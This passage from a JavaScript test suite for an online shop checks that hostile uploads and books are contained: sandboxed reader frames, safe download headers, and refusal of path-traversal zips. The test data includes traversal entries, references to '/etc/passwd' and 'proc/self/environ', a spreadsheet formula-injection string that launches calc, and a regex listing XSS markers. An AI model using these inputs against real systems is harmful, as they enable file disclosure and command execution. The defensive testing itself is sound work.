  await looked(page, faults, await sent("/admin/rates", "file", `${SHORT.replaceAll("\"", "")}.csv`, file(SHORT), staff), [SHORT]);
  await looked(page, faults, await sent("/admin/rates", "file", "long.csv", file(TEXT), staff), [SHORT]);
  await close();
});

test("the name that a browser gives itself is shown as text among the account's devices", async () => {
  const { page, faults, close } = await openPage(browser);
  await signedUp(server, "evil-device@example.org", "a long enough word", "Device");
  const device = evil("device");
  await as(page, await signedIn(server, "evil-device@example.org", "a long enough word", new Jar(), { "user-agent": device }));
  await looked(page, faults, `${server.url}/account`, [device]);
  await close();
});

test("a hostile book is read without the right to run, apart from the shop", async () => {
  const { page, faults, close } = await openPage(browser);
  const reader = await signedUp(server, "evil-reader@example.org", "a long enough word", "Reader");
  await purchase(server, [paths.book], { cookie: `${reader}`, email: "evil-reader@example.org" });
  await as(page, reader);
  await looked(page, faults, `${server.url}/my-products/${paths.book.match(/w_[0-9a-v]{26}/)[0]}`);
  const frame = page.locator("iframe.reader");
  assert.equal(await frame.getAttribute("sandbox"), "", "the frame may do nothing");
  const address = new URL(await frame.getAttribute("src"));
  assert.match(address.pathname, /^\/r\/[^/]+\/0\.html$/);
  // The whole book of who bought it, and what of books is public.
  const samples = (await readdir(join(server.data, "blobs/objects/public.d"))).map((name) => name.match(/^[0-9a-f]{64}\.html(?=\.o$)/)?.[0]).filter(Boolean);
  const shown = [];
  for (const path of [address.pathname, ...samples.map((name) => `/m/${name}`)]) {
    const answer = await ask(server, "GET", path, { files: true });
    assert.deepEqual([answer.status, answer.headers["content-type"], answer.headers["x-content-type-options"]], [200, "text/html; charset=utf-8", "nosniff"], path);
    const policy = answer.headers["content-security-policy"];
    assert.match(policy, /^default-src 'none';.*; sandbox(;|$)/, path);
    assert.doesNotMatch(policy, /script-src|allow-|unsafe-eval/, path);
    assert.doesNotMatch(answer.body, /<script|<iframe|<form|<input|<svg|javascript:|evil\.example|data-pwn|\son\w+\s*=/i, path);
    shown.push(await looked(page, faults, server.files + path, false));
    assert.equal(page.url(), server.files + path, "the book leads nowhere by itself");
  }
  assert.equal(shown.filter((text) => /One\s+two/.test(text)).length, 2, `the book and its sample, of ${shown.length}`);
  assert.equal(address.origin, server.files, "the book is of another origin than the shop");
  // In the frame of the owner's page, as its button opens it.
  await looked(page, faults, `${server.url}/my-products/${paths.book.match(/w_[0-9a-v]{26}/)[0]}`);
  await page.getByRole("button", { name: "Read", exact: true }).click();
  await frame.contentFrame().getByRole("heading", { name: "One two" }).waitFor();
  const inside = page.frames().find((f) => f.url().startsWith(`${server.files}/r/`));
  assert.equal(await inside.evaluate(() => origin), "null", "the book has an origin");
  await unharmed(inside, faults, inside.url(), ["One", "two"]);
  await unharmed(page, faults, page.url());
  await close();
  // Before it is bought its page shows the beginning.
  const visitor = await openPage(browser);
  await looked(visitor.page, visitor.faults, server.url + paths.book);
  await visitor.page.getByRole("button", { name: "Look inside" }).click();
  const sample = visitor.page.locator("#look-inside iframe");
  await sample.contentFrame().getByText("One two").first().waitFor();
  assert.deepEqual([await sample.getAttribute("sandbox"), new URL(await sample.getAttribute("src")).origin], ["", server.files]);
  const opened = visitor.page.frames().find((f) => f.url().startsWith(`${server.files}/m/`));
  assert.equal(await opened.evaluate(() => origin), "null", "the sample has an origin");
  await unharmed(opened, visitor.faults, opened.url(), ["One", "two"]);
  await visitor.close();
});

test("files that browsers would run come as downloads, or without the right to run and apart from the shop", async () => {
  const { order, key, parts } = await purchase(server, [paths.album, paths.book], { email: "files@example.org" });
  const names = [];
  for (const asset of parts[0].lines.flatMap((l) => l.assets.split(","))) {
    const link = JSON.parse((await json(server, "POST", "/api/downloads/link", { assetIds: [asset], order, key })).body);
    const file = await ask(server, "GET", new URL(link.url).pathname);
    assert.equal(file.status, 200);
    assert.match(file.headers["content-disposition"], /^attachment; filename="[^"\\/\r\n]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/);
    names.push(file.headers["content-disposition"]);
    assert.equal(file.headers["x-content-type-options"], "nosniff");
    assert.match(file.headers["content-security-policy"], /default-src 'none'.*sandbox/);
    assert.doesNotMatch(file.headers["content-security-policy"], /allow-scripts|allow-same-origin/);
  }
  assert.ok(names.some((n) => n.includes("svg")) && names.some((n) => n.includes("html")), names.join("\n"));
  const all = JSON.parse((await json(server, "POST", "/api/downloads/link", { assetIds: parts[0].lines.flatMap((l) => l.assets.split(",")), order, key })).body);
  const zip = await ask(server, "GET", new URL(all.url).pathname);
  const inside = [...zip.body.matchAll(/PK\x03\x04[\s\S]{26}([\x20-\x7e]{1,180}?)(?=<svg|OggS|<p>x|PK)/g)].map((m) => m[1]);
  for (const name of inside) assert.ok(!name.startsWith("/") && !name.split("/").includes(".."), name);
  // Nothing on the files origin has a cookie, and no answer of it sets one.
  const media = await ask(server, "GET", `/m/${"0".repeat(64)}.html`, { files: true, headers: { cookie: `${staff}` } });
  assert.equal(media.headers["set-cookie"], undefined);
});

test("rows that point elsewhere and files that would fill the memory are refused for themselves, the rest is taken in", async () => {
  // Files that a playlist or a link names lie where others' uploads could: nothing of them may come out.
  const found = (await ask(server, "GET", "/catalog")).body;
  for (const ref of ["path0", "path1", "path2", "path3", "path4", "path5", "source", "playlist", "bomb"]) assert.ok(!found.includes(`${ref} &quot;`) && !found.includes(`${ref} "`), ref);
  assert.equal((await ask(server, "GET", "/artists/script-link")).status, 404);
  const blobs = join(server.data, "blobs");
  let total = 0;
  for (const entry of await readdir(blobs, { withFileTypes: true, recursive: true })) total += entry.isFile() ? 1 : 0;
  assert.ok(total < 200, `${total} objects`);
  // The same by the console: rows alone bring no file of this machine.
  const upload = async (name, bytes) => {
    const body = Buffer.concat([Buffer.from(`--b\r\ncontent-disposition: form-data; name="rows"; filename="${name}"\r\n\r\n`), bytes, Buffer.from("\r\n--b--\r\n")]);
    const answer = await ask(server, "POST", "/admin/import/upload", { headers: { origin: server.url, cookie: `${staff}`, "content-type": "multipart/form-data; boundary=b" }, body });
    assert.equal(answer.status, 303, answer.body);
    const deadline = Date.now() + 30_000;
    for (;;) {
      const report = await json(server, "GET", `/api${answer.headers.location}`.replace("/admin/import", "/admin/catalog/import"), undefined, `${staff}`);
      if (report.status === 200) return JSON.parse(report.body);
      assert.ok(Date.now() < deadline, `${name}: ${report.status}`);
    }
  };
  const outside = work("outside", "album", { parts: [{ title: "x", files: [{ file: "/etc/passwd", format: "x" }] }], title: "Outside" });
  const rowsOnly = await upload("rows.jsonl", Buffer.from([outside, work("mount", "album", { title: "Mount", files: [{ file: "proc/self/environ", format: "x" }] })].map((r) => JSON.stringify(r)).join("\n")));
  assert.deepEqual(rowsOnly.counts, [["refused", 2]], JSON.stringify(rowsOnly));
  const slip = await upload("slip.zip", zipOf([["catalog.jsonl", Buffer.from("{}")], ["../../../evil.txt", Buffer.from("x")]]));
  assert.match(JSON.stringify(slip), /leads out of its folder/);
  const absolute = await upload("absolute.zip", zipOf([["catalog.jsonl", Buffer.from("{}")], ["/tmp/evil.txt", Buffer.from("x")]]));
  assert.match(JSON.stringify(absolute), /leads out of its folder|refused/);
  const none = await upload("none.zip", Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(5_000)]));
  assert.match(JSON.stringify(none), /not a ZIP archive/);
  // Reports show what was in the rows as text. Two files are for spreadsheets, prices and taxes: their texts go through `neutral`.
  const formula = await upload("f.jsonl", Buffer.from(JSON.stringify({ type: "maker", ref: `=cmd|' /C calc'!A0${TEXT}`, tenant: "none", kind: "artist", name: "=1+1" })));
  assert.match(JSON.stringify(formula), /refused/);
  const sources = await readdir(fileURLToPath(new URL("../../server/src", import.meta.url)), { withFileTypes: true, recursive: true });
  for (const entry of sources.filter((e) => e.name.endsWith(".rs"))) {
    const text = await readFile(join(entry.parentPath ?? entry.path, entry.name), "utf8");
    if (/csv::Writer|WriterBuilder/.test(text)) assert.match(text, /\bneutral\(&/, `${entry.name} writes CSV: cells that begin with = + - @ must not be computed`);
  }
});

test("what was made of hostile files is bounded", async () => {
  const owned = (await ask(server, "GET", "/catalog?type=book")).body;
  const book = owned.match(/href="(\/books\/spine[^"]*w_[0-9a-v]{26})"/);
  assert.ok(book, "the book is taken in");
  const id = book[1].match(/w_[0-9a-v]{26}/)[0];
  const view = JSON.parse((await json(server, "GET", `/api/public/catalog/items/${id}`)).body);
  assert.equal(view.parts?.length ?? 1, 1, "a hundred thousand names of one chapter are one chapter");
});
